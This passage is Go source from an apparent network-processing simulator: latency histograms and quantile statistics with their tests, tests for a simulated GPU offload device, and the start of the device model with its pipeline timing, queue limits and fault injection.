	m.full = false
}

// Count returns the number of samples in the window.
func (m *MovingAverage) Count() int {
	if m.full {
		return len(m.buf)
	}
	return m.next
}

// Hist is a latency histogram with logarithmic buckets spanning 100 ns to
// ~10 s, sufficient for the paper's microsecond-to-millisecond CDFs.
type Hist struct {
	buckets [bucketCount]uint64
	count   uint64
	sum     simtime.Time
	min     simtime.Time
	max     simtime.Time
}

const (
	bucketCount = 256
	histBase    = 100 * simtime.Nanosecond
	// histGrowth is chosen so bucketCount buckets cover ~8 decades:
	// each bucket is ~7.5% wider than the previous.
	histGrowth = 1.075
)

var bucketBounds = func() [bucketCount]simtime.Time {
	var b [bucketCount]simtime.Time
	v := float64(histBase)
	for i := range b {
		b[i] = simtime.Time(v)
		v *= histGrowth
	}
	return b
}()

func bucketOf(t simtime.Time) int {
	if t <= histBase {
		return 0
	}
	i := int(math.Log(float64(t)/float64(histBase)) / math.Log(histGrowth))
	if i >= bucketCount {
		return bucketCount - 1
	}
	// Guard against fp rounding at bucket edges.
	for i > 0 && bucketBounds[i] > t {
		i--
	}
	for i < bucketCount-1 && bucketBounds[i+1] <= t {
		i++
	}
	return i
}

// Record adds one latency observation.
func (h *Hist) Record(t simtime.Time) {
	if t < 0 {
		t = 0
	}
	h.buckets[bucketOf(t)]++
	h.count++
	h.sum += t
	if h.count == 1 || t < h.min {
		h.min = t
	}
	if t > h.max {
		h.max = t
	}
}

// Reset discards all observations.
func (h *Hist) Reset() { *h = Hist{} }

// Count returns the number of observations.
func (h *Hist) Count() uint64 { return h.count }

// Min returns the smallest observation.
func (h *Hist) Min() simtime.Time { return h.min }

// Max returns the largest observation.
func (h *Hist) Max() simtime.Time { return h.max }

// Mean returns the average observation.
func (h *Hist) Mean() simtime.Time {
	if h.count == 0 {
		return 0
	}
	return h.sum / simtime.Time(h.count)
}

// Percentile returns an upper bound on the p-th percentile (0 < p <= 100):
// the upper edge of the bucket containing it.
func (h *Hist) Percentile(p float64) simtime.Time {
	if h.count == 0 {
		return 0
	}
	target := uint64(math.Ceil(p / 100 * float64(h.count)))
	if target == 0 {
		target = 1
	}
	var cum uint64
	for i, c := range h.buckets {
		cum += c
		if cum >= target {
			if i+1 < bucketCount {
				return bucketBounds[i+1]
			}
			return h.max
		}
	}
	return h.max
}

// CDFPoint is one point of a cumulative distribution dump.
type CDFPoint struct {
	Latency simtime.Time
	Frac    float64
}

// CDF returns the cumulative distribution as (bucket upper bound, fraction)
// points, skipping empty leading/trailing regions.
func (h *Hist) CDF() []CDFPoint {
	if h.count == 0 {
		return nil
	}
	var pts []CDFPoint
	var cum uint64
	for i, c := range h.buckets {
		if c == 0 && cum == 0 {
			continue
		}
		cum += c
		upper := h.max
		if i+1 < bucketCount {
			upper = bucketBounds[i+1]
		}
		pts = append(pts, CDFPoint{Latency: upper, Frac: float64(cum) / float64(h.count)})
		if cum == h.count {
			break
		}
	}
	return pts
}

// Merge adds the contents of other into h.
func (h *Hist) Merge(other *Hist) {
	if other.count == 0 {
		return
	}
	for i, c := range other.buckets {
		h.buckets[i] += c
	}
	if h.count == 0 || other.min < h.min {
		h.min = other.min
	}
	if other.max > h.max {
		h.max = other.max
	}
	h.count += other.count
	h.sum += other.sum
}

// Quantiles collects integer samples (queue depths, batch sizes) and reports
// exact order statistics. Unlike Hist it stores every sample, so it is meant
// for bounded post-run analysis (trace summaries), not hot-path metering.
type Quantiles struct {
	samples []int64
	sorted  bool
}

// Add records one sample.
func (q *Quantiles) Add(v int64) {
	q.samples = append(q.samples, v)
	q.sorted = false
}

// Count returns the number of samples.
func (q *Quantiles) Count() int { return len(q.samples) }

func (q *Quantiles) sort() {
	if !q.sorted {
		sort.Slice(q.samples, func(i, j int) bool { return q.samples[i] < q.samples[j] })
		q.sorted = true
	}
}

// Percentile returns the p-th percentile (0 < p <= 100) using the
// nearest-rank definition, or 0 with no samples.
func (q *Quantiles) Percentile(p float64) int64 {
	if len(q.samples) == 0 {
		return 0
	}
	q.sort()
	rank := int(math.Ceil(p / 100 * float64(len(q.samples))))
	if rank < 1 {
		rank = 1
	}
	if rank > len(q.samples) {
		rank = len(q.samples)
	}
	return q.samples[rank-1]
}

// Min returns the smallest sample, or 0 with no samples.
func (q *Quantiles) Min() int64 {
	if len(q.samples) == 0 {
		return 0
	}
	q.sort()
	return q.samples[0]
}

// Max returns the largest sample, or 0 with no samples.
func (q *Quantiles) Max() int64 {
	if len(q.samples) == 0 {
		return 0
	}
	q.sort()
	return q.samples[len(q.samples)-1]
}

// Mean returns the sample mean, or 0 with no samples.
func (q *Quantiles) Mean() float64 {
	if len(q.samples) == 0 {
		return 0
	}
	var sum float64
	for _, v := range q.samples {
		sum += float64(v)
	}
	return sum / float64(len(q.samples))
}

// Gbps converts bits per second to Gbps for display.
func Gbps(bps float64) float64 { return bps / 1e9 }

// SortedKeys returns the sorted keys of a string-keyed map, for stable
// report output.
func SortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
