package stats

import (
	"math"
	"testing"
	"testing/quick"

	"nba/internal/simtime"
)

func TestMeterRate(t *testing.T) {
	var m Meter
	m.Mark(0)
	// 1000 packets of 84 wire bytes over 1 ms => 1 Mpps, 672 Mbps.
	for i := 0; i < 1000; i++ {
		m.Counter.Add(1, 84)
	}
	pps, bps := m.RateSince(simtime.Millisecond)
	if math.Abs(pps-1e6) > 1 {
		t.Errorf("pps = %v, want 1e6", pps)
	}
	if math.Abs(bps-672e6) > 1 {
		t.Errorf("bps = %v, want 672e6", bps)
	}
}

func TestMeterRateZeroInterval(t *testing.T) {
	var m Meter
	m.Mark(5)
	if pps, bps := m.RateSince(5); pps != 0 || bps != 0 {
		t.Error("zero interval should yield zero rates")
	}
}

func TestMeterMarkExcludesHistory(t *testing.T) {
	var m Meter
	m.Counter.Add(500, 500*84)
	m.Mark(simtime.Second)
	m.Counter.Add(100, 100*84)
	pps, _ := m.RateSince(simtime.Second + simtime.Millisecond)
	if math.Abs(pps-1e5) > 1 {
		t.Errorf("pps = %v, want 1e5 (pre-Mark traffic excluded)", pps)
	}
}

func TestMovingAverage(t *testing.T) {
	m := NewMovingAverage(4)
	if m.Mean() != 0 || m.Count() != 0 {
		t.Error("empty window not zero")
	}
	m.Push(2)
	m.Push(4)
	if m.Mean() != 3 || m.Count() != 2 {
		t.Errorf("Mean=%v Count=%d, want 3,2", m.Mean(), m.Count())
	}
	m.Push(6)
	m.Push(8)
	m.Push(100) // evicts the 2
	if m.Count() != 4 {
		t.Errorf("Count = %d, want 4", m.Count())
	}
	if want := (4 + 6 + 8 + 100) / 4.0; m.Mean() != want {
		t.Errorf("Mean = %v, want %v", m.Mean(), want)
	}
}

func TestMovingAverageInvalidWindow(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("zero window did not panic")
		}
	}()
	NewMovingAverage(0)
}

func TestHistBasics(t *testing.T) {
	var h Hist
	h.Record(10 * simtime.Microsecond)
	h.Record(20 * simtime.Microsecond)
	h.Record(30 * simtime.Microsecond)
	if h.Count() != 3 {
		t.Fatalf("Count = %d, want 3", h.Count())
	}
	if h.Min() != 10*simtime.Microsecond || h.Max() != 30*simtime.Microsecond {
		t.Errorf("Min/Max = %v/%v", h.Min(), h.Max())
	}
	if h.Mean() != 20*simtime.Microsecond {
		t.Errorf("Mean = %v, want 20us", h.Mean())
	}
}

func TestHistPercentileAccuracy(t *testing.T) {
	// With 7.5% bucket growth, percentiles must be within ~10% of truth.
	var h Hist
	for i := 1; i <= 1000; i++ {
		h.Record(simtime.Time(i) * simtime.Microsecond)
	}
	for _, p := range []float64{50, 90, 99, 99.9} {
		want := p / 100 * 1000 // true percentile in us
		got := h.Percentile(p).Micros()
		if got < want*0.95 || got > want*1.15 {
			t.Errorf("p%g = %.1fus, want within [%.1f, %.1f]", p, got, want*0.95, want*1.15)
		}
	}
}

func TestHistCDFMonotone(t *testing.T) {
	var h Hist
	for i := 0; i < 500; i++ {
		h.Record(simtime.Time(1+i*i) * simtime.Microsecond)
	}
	pts := h.CDF()
	if len(pts) == 0 {
		t.Fatal("empty CDF")
	}
	prev := 0.0
	for _, p := range pts {
		if p.Frac < prev {
			t.Fatalf("CDF not monotone at %v: %v < %v", p.Latency, p.Frac, prev)
		}
		prev = p.Frac
	}
	if last := pts[len(pts)-1].Frac; last != 1.0 {
		t.Errorf("CDF tail = %v, want 1.0", last)
	}
}

func TestHistMerge(t *testing.T) {
	var a, b Hist
	a.Record(10 * simtime.Microsecond)
	b.Record(1 * simtime.Microsecond)
	b.Record(100 * simtime.Microsecond)
	a.Merge(&b)
	if a.Count() != 3 {
		t.Errorf("merged Count = %d, want 3", a.Count())
	}
	if a.Min() != 1*simtime.Microsecond || a.Max() != 100*simtime.Microsecond {
		t.Errorf("merged Min/Max = %v/%v", a.Min(), a.Max())
	}
	var empty Hist
	a.Merge(&empty) // must not disturb
	if a.Count() != 3 {
		t.Error("merging empty changed count")
	}
}

func TestHistBucketMonotoneProperty(t *testing.T) {
	// Property: bucketOf is monotone in t and Percentile(100) >= Max ever
	// recorded... verified via recording pairs.
	f := func(aUs, bUs uint16) bool {
		a := simtime.Time(aUs+1) * simtime.Microsecond
		b := simtime.Time(bUs+1) * simtime.Microsecond
		if a > b {
			a, b = b, a
		}
		return bucketOf(a) <= bucketOf(b)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestHistZeroAndNegative(t *testing.T) {
	var h Hist
	h.Record(0)
	h.Record(-5) // clamped
	if h.Count() != 2 || h.Min() != 0 {
		t.Errorf("Count=%d Min=%v", h.Count(), h.Min())
	}
}

func TestGbps(t *testing.T) {
	if Gbps(10e9) != 10 {
		t.Error("Gbps conversion wrong")
	}
}

func TestSortedKeys(t *testing.T) {
	m := map[string]int{"b": 1, "a": 2, "c": 3}
	keys := SortedKeys(m)
	if len(keys) != 3 || keys[0] != "a" || keys[2] != "c" {
		t.Errorf("SortedKeys = %v", keys)
	}
}

func BenchmarkHistRecord(b *testing.B) {
	var h Hist
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		h.Record(simtime.Time(i%10000) * simtime.Microsecond)
	}
}
