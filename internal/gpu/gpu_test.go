package gpu

import (
	"testing"

	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

func newDevice(t *testing.T, workers int) (*Device, *simtime.Engine) {
	t.Helper()
	eng := simtime.NewEngine()
	d, err := New("gpu0", sysinfo.DeviceGPU, eng, sysinfo.Default(), 2.6e9, workers)
	if err != nil {
		t.Fatal(err)
	}
	return d, eng
}

func TestSingleTaskTiming(t *testing.T) {
	d, eng := newDevice(t, 1)
	var execAt, finishAt simtime.Time
	task := &Task{
		NPkts: 2048, H2DBytes: 163840, D2HBytes: 163840,
		KernelTime: 148 * simtime.Microsecond, Kernels: 2,
		Execute:  func() { execAt = eng.Now() },
		Complete: func(f simtime.Time, tk *Task) { finishAt = f },
	}
	eng.After(0, func() { d.Submit(task) })
	eng.Run()

	if task.HostDone <= 0 || task.H2DDone <= task.HostDone || task.KernelDone <= task.H2DDone || task.Finish <= task.KernelDone {
		t.Errorf("stage ordering broken: %+v", task)
	}
	if execAt != task.KernelDone {
		t.Errorf("Execute at %v, want kernel-done %v", execAt, task.KernelDone)
	}
	if finishAt != task.Finish {
		t.Errorf("Complete at %v, want %v", finishAt, task.Finish)
	}
	// Copy time for 163840 B at 2.2 GB/s is ~74.5 us each way.
	h2d := (task.H2DDone - task.HostDone).Micros()
	if h2d < 70 || h2d > 80 {
		t.Errorf("h2d = %v us, want ~74.5", h2d)
	}
	// The paper's minimum IPsec GPU latency is ~287 us (kernel ~140 us +
	// copies 150-200 us); our single-task latency must land in that band.
	total := (task.Finish - task.Submitted).Micros()
	if total < 280 || total > 340 {
		t.Errorf("single task latency = %v us, want ~300 us (paper: min 287 us)", total)
	}
}

func TestPipelineOverlap(t *testing.T) {
	// Two back-to-back tasks: the second's H2D may start while the first
	// kernel runs, so total time < 2x single-task time.
	mk := func() *Task {
		return &Task{NPkts: 2048, H2DBytes: 163840, D2HBytes: 163840,
			KernelTime: 148 * simtime.Microsecond, Kernels: 2}
	}
	d1, e1 := newDevice(t, 1)
	t1 := mk()
	e1.After(0, func() { d1.Submit(t1) })
	e1.Run()
	single := t1.Finish

	d2, e2 := newDevice(t, 1)
	a, b := mk(), mk()
	e2.After(0, func() { d2.Submit(a); d2.Submit(b) })
	e2.Run()
	if b.Finish >= 2*single {
		t.Errorf("no pipelining: 2 tasks took %v, single %v", b.Finish, single)
	}
	if b.KernelDone < a.KernelDone {
		t.Error("kernel engine executed out of order")
	}
}

func TestThroughputKernelBound(t *testing.T) {
	// Submit many IPv4-style tasks (tiny copies, 83us kernels): steady-state
	// spacing must approach the kernel time, not the sum of stages.
	d, eng := newDevice(t, 7)
	var finishes []simtime.Time
	const n = 50
	eng.After(0, func() {
		for i := 0; i < n; i++ {
			d.Submit(&Task{
				NPkts: 2048, H2DBytes: 8192, D2HBytes: 8192,
				KernelTime: 83 * simtime.Microsecond, Kernels: 1,
				Complete: func(f simtime.Time, tk *Task) { finishes = append(finishes, f) },
			})
		}
	})
	eng.Run()
	if len(finishes) != n {
		t.Fatalf("%d completions, want %d", len(finishes), n)
	}
	// Steady-state inter-completion gap.
	gap := (finishes[n-1] - finishes[n/2]).Micros() / float64(n-1-n/2)
	if gap < 80 || gap > 95 {
		t.Errorf("steady-state task gap = %.1f us, want ~83-90 (kernel bound)", gap)
	}
}

func TestThroughputCopyBound(t *testing.T) {
	// IDS-style 1500B tasks: copies dominate (3.1 MB at 2.2 GB/s = 1.4 ms).
	d, eng := newDevice(t, 7)
	var finishes []simtime.Time
	const n = 20
	eng.After(0, func() {
		for i := 0; i < n; i++ {
			d.Submit(&Task{
				NPkts: 2048, H2DBytes: 2048 * 1500, D2HBytes: 2048 * 8,
				KernelTime: 30 * simtime.Microsecond, Kernels: 1,
				Complete: func(f simtime.Time, tk *Task) { finishes = append(finishes, f) },
			})
		}
	})
	eng.Run()
	gap := (finishes[n-1] - finishes[n/2]).Seconds() / float64(n-1-n/2)
	wantGap := float64(2048*1500+2048*8) / 2.2e9
	if gap < wantGap*0.95 || gap > wantGap*1.15 {
		t.Errorf("copy-bound gap = %v s, want ~%v", gap, wantGap)
	}
}

func TestHostCostGrowsWithWorkers(t *testing.T) {
	run := func(workers int) simtime.Time {
		d, eng := newDevice(t, workers)
		task := &Task{NPkts: 64, KernelTime: simtime.Microsecond, Kernels: 1}
		eng.After(0, func() { d.Submit(task) })
		eng.Run()
		return task.HostDone
	}
	if run(7) <= run(1) {
		t.Error("device-thread host cost did not grow with worker count")
	}
}

func TestPhiDeviceDiffers(t *testing.T) {
	eng := simtime.NewEngine()
	cm := sysinfo.Default()
	gpuDev, _ := New("g", sysinfo.DeviceGPU, eng, cm, 2.6e9, 1)
	phiDev, _ := New("p", sysinfo.DevicePhi, eng, cm, 2.6e9, 1)
	mk := func() *Task {
		return &Task{NPkts: 1024, H2DBytes: 65536, D2HBytes: 65536,
			KernelTime: 100 * simtime.Microsecond, Kernels: 1}
	}
	a, b := mk(), mk()
	eng.After(0, func() { gpuDev.Submit(a); phiDev.Submit(b) })
	eng.Run()
	// Phi: slower kernels (2.2x) + extra launch, faster copies.
	if b.KernelDone-b.H2DDone <= a.KernelDone-a.H2DDone {
		t.Error("phi kernel not slower than gpu kernel")
	}
	if b.H2DDone-b.HostDone >= a.H2DDone-a.HostDone {
		t.Error("phi copy not faster than gpu copy")
	}
}

func TestStatsAccounting(t *testing.T) {
	d, eng := newDevice(t, 2)
	eng.After(0, func() {
		d.Submit(&Task{NPkts: 100, H2DBytes: 1000, D2HBytes: 500, KernelTime: simtime.Microsecond, Kernels: 1})
		d.Submit(&Task{NPkts: 50, H2DBytes: 2000, D2HBytes: 0, KernelTime: simtime.Microsecond, Kernels: 1})
	})
	eng.Run()
	s := d.Stats()
	if s.Tasks != 2 || s.Packets != 150 || s.H2DBytes != 3000 || s.D2HBytes != 500 {
		t.Errorf("stats wrong: %+v", s)
	}
	if s.KernelBusy <= 0 || s.CopyBusy <= 0 || s.HostBusy <= 0 {
		t.Error("busy accounting missing")
	}
	k, c := d.Utilization(simtime.Millisecond)
	if k <= 0 || c <= 0 {
		t.Error("utilization zero")
	}
}

func TestBacklogSignal(t *testing.T) {
	d, eng := newDevice(t, 1)
	eng.After(0, func() {
		if d.Backlog() != 0 {
			t.Error("idle backlog non-zero")
		}
		for i := 0; i < 10; i++ {
			d.Submit(&Task{NPkts: 64, KernelTime: 100 * simtime.Microsecond, Kernels: 1})
		}
		if d.Backlog() < 900*simtime.Microsecond {
			t.Errorf("backlog = %v, want ~1ms of queued kernels", d.Backlog())
		}
	})
	eng.Run()
}

func TestNewValidation(t *testing.T) {
	eng := simtime.NewEngine()
	if _, err := New("x", sysinfo.DeviceKind(99), eng, sysinfo.Default(), 2.6e9, 1); err == nil {
		t.Error("unknown device kind accepted")
	}
	if _, err := New("x", sysinfo.DeviceGPU, eng, sysinfo.Default(), 2.6e9, 0); err == nil {
		t.Error("zero workers accepted")
	}
}

func TestHalfDuplexCopyUtilization(t *testing.T) {
	// Saturating back-to-back submits with large copies both ways: the
	// single half-duplex copy engine can never be more than 100% busy. The
	// old model pooled two independent DMA timelines into one CopyBusy
	// counter and reported ~200% here.
	d, eng := newDevice(t, 1)
	const n = 40
	eng.After(0, func() {
		for i := 0; i < n; i++ {
			d.Submit(&Task{
				NPkts: 2048, H2DBytes: 1 << 20, D2HBytes: 1 << 20,
				KernelTime: simtime.Microsecond, Kernels: 1,
			})
		}
	})
	eng.Run()
	_, copyEng := d.Utilization(d.Stats().LastFinish)
	if copyEng > 1.0 {
		t.Errorf("copy engine utilization = %.3f, want <= 1 (half duplex)", copyEng)
	}
	if copyEng < 0.9 {
		t.Errorf("copy engine utilization = %.3f, want ~1 under saturation", copyEng)
	}
}

func TestFailFastCompletion(t *testing.T) {
	d, eng := newDevice(t, 1)
	type done struct {
		at     simtime.Time
		failed bool
	}
	var completions []done
	mk := func() *Task {
		return &Task{
			NPkts: 2048, H2DBytes: 163840, D2HBytes: 163840,
			KernelTime: 148 * simtime.Microsecond, Kernels: 1,
			Execute:  func() { t.Error("Execute ran on a failed task") },
			Complete: func(f simtime.Time, tk *Task) { completions = append(completions, done{f, tk.Failed}) },
		}
	}
	failAt := 10 * simtime.Microsecond
	eng.After(0, func() { d.Submit(mk()) })
	eng.At(failAt, func() {
		d.Fail()
		if d.Healthy() {
			t.Error("failed device reports healthy")
		}
		if d.Backlog() != 0 {
			t.Errorf("failed device backlog = %v, want 0", d.Backlog())
		}
		d.Submit(mk()) // submit-while-failed must fail fast too
	})
	eng.Run()

	if len(completions) != 2 {
		t.Fatalf("%d completions, want 2", len(completions))
	}
	for i, c := range completions {
		if !c.failed {
			t.Errorf("completion %d not marked failed", i)
		}
		if c.at != failAt {
			t.Errorf("completion %d at %v, want fail time %v", i, c.at, failAt)
		}
	}
	if d.Stats().FailedTasks != 2 {
		t.Errorf("FailedTasks = %d, want 2", d.Stats().FailedTasks)
	}
}

func TestHangThenRecover(t *testing.T) {
	d, eng := newDevice(t, 1)
	var execs int
	var finishes []simtime.Time
	mk := func() *Task {
		return &Task{
			NPkts: 64, H2DBytes: 8192, D2HBytes: 8192,
			KernelTime: 50 * simtime.Microsecond, Kernels: 1,
			Execute: func() { execs++ },
			Complete: func(f simtime.Time, tk *Task) {
				if tk.Failed {
					t.Error("hung task completed as failed")
				}
				finishes = append(finishes, f)
			},
		}
	}
	hangAt := 10 * simtime.Microsecond
	recoverAt := 5 * simtime.Millisecond
	eng.After(0, func() { d.Submit(mk()) })
	eng.At(hangAt, func() {
		d.Hang()
		if d.Healthy() {
			t.Error("hung device reports healthy")
		}
		d.Submit(mk()) // parked until recovery
	})
	eng.At(recoverAt-simtime.Microsecond, func() {
		if len(finishes) != 0 || execs != 0 {
			t.Errorf("task completed while hung: %v execs=%d", finishes, execs)
		}
	})
	eng.At(recoverAt, d.Recover)
	eng.Run()

	if len(finishes) != 2 || execs != 2 {
		t.Fatalf("finishes=%v execs=%d, want both tasks after recovery", finishes, execs)
	}
	for i, f := range finishes {
		if f <= recoverAt {
			t.Errorf("task %d finished at %v, before recovery %v", i, f, recoverAt)
		}
	}
}

func TestSlowdownScalesStages(t *testing.T) {
	run := func(kf, cf float64) *Task {
		d, eng := newDevice(t, 1)
		task := &Task{NPkts: 1024, H2DBytes: 1 << 20, D2HBytes: 0,
			KernelTime: 100 * simtime.Microsecond, Kernels: 1}
		eng.After(0, func() {
			d.SetSlowdown(kf, cf)
			d.Submit(task)
		})
		eng.Run()
		return task
	}
	// Float scaling truncates to whole picoseconds, so compare with a
	// few-ps tolerance.
	near := func(a, b simtime.Time) bool {
		d := a - b
		return d > -4 && d < 4
	}
	base, slow := run(0, 0), run(3, 2)
	if got, want := slow.KernelDone-slow.H2DDone, 3*(base.KernelDone-base.H2DDone); !near(got, want) {
		t.Errorf("kernel under 3x slowdown = %v, want %v", got, want)
	}
	if got, want := slow.H2DDone-slow.HostDone, 2*(base.H2DDone-base.HostDone); !near(got, want) {
		t.Errorf("copy under 2x slowdown = %v, want %v", got, want)
	}
	// Recover restores nominal factors.
	d, eng := newDevice(t, 1)
	after := &Task{NPkts: 1024, H2DBytes: 1 << 20, KernelTime: 100 * simtime.Microsecond, Kernels: 1}
	eng.After(0, func() {
		d.SetSlowdown(4, 4)
		d.Recover()
		d.Submit(after)
	})
	eng.Run()
	if got, want := after.KernelDone-after.H2DDone, base.KernelDone-base.H2DDone; got != want {
		t.Errorf("kernel after Recover = %v, want nominal %v", got, want)
	}
}
