// Package gpu models the accelerator device and its device thread: command
// queues, host<->device copies, kernel launches and completion callbacks
// (paper §3.3, Figure 7).
//
// The device is a three-stage pipeline on the virtual clock:
//
//	host stage   — the device thread's per-task CPU work (ring dequeue,
//	               CUDA-runtime locking; grows with the number of workers,
//	               which is what bends GPU-only scaling, paper §4.3);
//	copy stage   — a single half-duplex copy engine moving H2D bytes before
//	               the kernel and D2H bytes after it (the paper's GTX 680
//	               has one copy engine, so H2D and D2H transfers serialise);
//	kernel stage — the compute engine, busy for the task's kernel time.
//
// Stages overlap across tasks like CUDA streams do: while task N computes,
// task N+1 can copy. The copy engine keeps a free-gap list, so a transfer
// that becomes ready early (the next task's H2D) can slot into idle time
// left before an already-reserved later transfer (an earlier task's D2H).
// Throughput is set by the slowest stage; latency is the sum of stage times
// plus queueing. "Kernels" also carry a functional closure that really
// executes the element's device-side computation on the host, so offloaded
// packets are still actually processed.
//
// The device also has a health state driven by internal/fault: Fail voids
// every reservation and completes tasks immediately with Task.Failed set
// (workers re-execute them on the CPU); Hang freezes completion until
// Recover (the workers' task timeout rescues the stuck tasks); SetSlowdown
// scales kernel and copy times for subsequently scheduled tasks.
package gpu

import (
	"fmt"

	"nba/internal/invariant"
	"nba/internal/rng"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

// Task is one aggregated offload task.
type Task struct {
	ID       uint64
	Worker   int // submitting worker (for completion routing)
	NPkts    int
	H2DBytes int
	D2HBytes int
	// KernelTime is the unscaled total kernel execution time (the offload
	// engine sums the chain's kernel costs).
	KernelTime simtime.Time
	// Kernels is the number of kernel launches in the chain (each pays the
	// device's LaunchExtra).
	Kernels int

	// Execute performs the functional device-side computation. It runs at
	// kernel completion time. It may run more than once for a task that is
	// hung and rescheduled, so it must be idempotent.
	Execute func()
	// Complete is invoked when the task fully finishes (after D2H), or
	// immediately with Failed set when the device fails.
	Complete func(finish simtime.Time, t *Task)
	// Failed is set when the task completed because the device failed
	// rather than because it ran. Execute has not necessarily run.
	Failed bool

	// Timing breakdown, filled by the device.
	Submitted  simtime.Time
	HostDone   simtime.Time
	H2DDone    simtime.Time
	KernelDone simtime.Time
	Finish     simtime.Time
}

// Stats aggregates device activity. Tasks/Packets and the byte counters
// account everything offered to the device at submit time; the busy times
// account scheduled engine occupancy, and are refunded in full for tasks a
// fault aborts before completion.
type Stats struct {
	Tasks        uint64
	Packets      uint64
	H2DBytes     uint64
	D2HBytes     uint64
	FailedTasks  uint64
	KernelBusy   simtime.Time
	CopyBusy     simtime.Time
	HostBusy     simtime.Time
	LastFinish   simtime.Time
	MaxQueueWait simtime.Time
	// RejectedTasks counts submissions refused by admission control (the
	// bounded task queue was full). Rejected tasks appear in no other
	// counter: the refusal happens before any accounting.
	RejectedTasks uint64
	// MaxQueued is the task-queue high watermark (scheduled + parked tasks
	// observed after each accepted submission).
	MaxQueued int
}

// copyGap is an idle interval on the copy engine earlier than its frontier,
// left behind when a transfer had to wait for its data dependency.
type copyGap struct{ start, end simtime.Time }

// inflight tracks one scheduled task so a fault can cancel its callbacks.
type inflight struct {
	task       *Task
	exec, comp simtime.Timer
	// Accounted busy times, refunded if the task is aborted.
	hostT, copyT, kernT simtime.Time
}

// Device is one simulated accelerator plus its device thread.
type Device struct {
	Name string
	Kind sysinfo.DeviceKind

	// QueueDepth, when positive, bounds the task queue (scheduled plus
	// parked tasks): Submit refuses tasks that would exceed it, before any
	// accounting, and the submitter rescues or sheds the aggregate. Zero
	// leaves the queue unbounded (the pre-overload-control behaviour).
	QueueDepth int

	eng    *simtime.Engine
	params sysinfo.DeviceParams
	cm     *sysinfo.CostModel
	// hostFreqHz is the clock of the core running the device thread.
	hostFreqHz float64
	// nworkers scales the per-task host cost (CUDA-runtime lock contention).
	nworkers int

	hostFree   simtime.Time
	kernelFree simtime.Time
	// The single half-duplex copy engine: reserved through copyFrontier,
	// with earlier idle gaps available for transfers that fit.
	copyFrontier simtime.Time
	copyGaps     []copyGap

	// Health state (driven by internal/fault via core.System).
	failed     bool
	hung       bool
	kernelSlow float64
	copySlow   float64

	// Silent-corruption state (DeviceCorrupt/CorruptRecover faults). While
	// corrupting, each completing aggregate is — with probability
	// corruptProb, drawn from the per-event corruptRng stream — corrupted
	// by the worker's Execute closure: flipPattern is XORed into one byte
	// of every live packet at an offset drawn from the same stream.
	corrupting  bool
	corruptProb float64
	flipPattern byte
	corruptRng  *rng.Rand

	inflight []*inflight
	// pending holds tasks accepted while hung; Recover reschedules them in
	// submission order.
	pending []*Task

	nextID uint64
	stats  Stats

	// Tracer, when non-nil, receives one event per command-queue phase
	// (submit, H2D copy, launch, kernel, D2H return). TraceActor identifies
	// the device in multi-device traces.
	Tracer     *trace.Tracer
	TraceActor int32

	// Checker, when non-nil, verifies every scheduled task's phase ordering
	// (the gpu.phase invariant).
	Checker *invariant.Checker
}

// New creates a device on the given engine.
func New(name string, kind sysinfo.DeviceKind, eng *simtime.Engine, cm *sysinfo.CostModel, hostFreqHz float64, nworkers int) (*Device, error) {
	params, err := cm.DeviceParamsOf(kind)
	if err != nil {
		return nil, err
	}
	if nworkers < 1 {
		return nil, fmt.Errorf("gpu: device %s needs at least one worker, got %d", name, nworkers)
	}
	return &Device{
		Name: name, Kind: kind,
		eng: eng, params: params, cm: cm,
		hostFreqHz: hostFreqHz, nworkers: nworkers,
		kernelSlow: 1, copySlow: 1,
	}, nil
}

// Submit enqueues a task at the current virtual time and reports whether it
// was admitted. On a healthy device the full pipeline schedule is computed
// immediately (all stage timelines are known) and Execute/Complete callbacks
// are scheduled. On a failed device the task completes immediately with
// Failed set; on a hung device it is parked until Recover.
//
// With a positive QueueDepth, a task that would push the queue (inflight +
// parked) beyond the depth is refused before any accounting — no ID, no
// stats, no callbacks — and Submit returns false; the caller keeps ownership
// of the task and its packets. This is what bounds pending growth during a
// hang: once the queue is full, further submissions bounce back to the
// workers instead of accumulating against the frozen device.
func (d *Device) Submit(t *Task) bool {
	if d.Saturated() {
		d.stats.RejectedTasks++
		return false
	}
	d.nextID++
	t.ID = d.nextID
	t.Submitted = d.eng.Now()

	d.stats.Tasks++
	d.stats.Packets += uint64(t.NPkts)
	d.stats.H2DBytes += uint64(t.H2DBytes)
	d.stats.D2HBytes += uint64(t.D2HBytes)

	switch {
	case d.failed:
		d.failTask(t)
	case d.hung:
		d.pending = append(d.pending, t)
	default:
		d.schedule(t)
	}
	if q := d.Queued(); q > d.stats.MaxQueued {
		d.stats.MaxQueued = q //nbalint:allow sharedstate stats counter; read happens-after the event loop drains
	}
	d.Checker.DeviceQueue(d.eng.Now(), d.Name, d.Queued(), d.QueueDepth)
	return true
}

// Queued returns the current task-queue occupancy: scheduled (inflight)
// plus parked (pending) tasks.
func (d *Device) Queued() int { return len(d.inflight) + len(d.pending) }

// Saturated reports whether a bounded queue is at capacity, i.e. the next
// Submit would be refused. A failed device is never saturated — submissions
// there fail fast and carry no queue occupancy.
func (d *Device) Saturated() bool {
	return d.QueueDepth > 0 && !d.failed && d.Queued() >= d.QueueDepth
}

// schedule computes the task's pipeline timeline and registers callbacks.
func (d *Device) schedule(t *Task) {
	now := d.eng.Now()

	// Drop copy-engine gaps entirely in the past: transfers become ready no
	// earlier than now, so they can never be filled.
	for len(d.copyGaps) > 0 && d.copyGaps[0].end <= now {
		d.copyGaps = d.copyGaps[1:]
	}

	// Host stage: device-thread CPU handling, serialised on its core.
	hostCycles := d.cm.DeviceTaskFixed + d.cm.DeviceTaskPerWorker*simtime.Cycles(d.nworkers)
	hostTime := simtime.CyclesToTime(hostCycles, d.hostFreqHz)
	hostStart := maxTime(now, d.hostFree)
	t.HostDone = hostStart + hostTime
	d.hostFree = t.HostDone

	// H2D transfer on the shared copy engine.
	h2dTime := d.copyTime(t.H2DBytes)
	h2dStart, h2dEnd := d.allocCopy(t.HostDone, h2dTime)
	t.H2DDone = h2dEnd

	// Kernel stage.
	ktime := simtime.Time(float64(t.KernelTime) * d.params.KernelScale * d.kernelSlow)
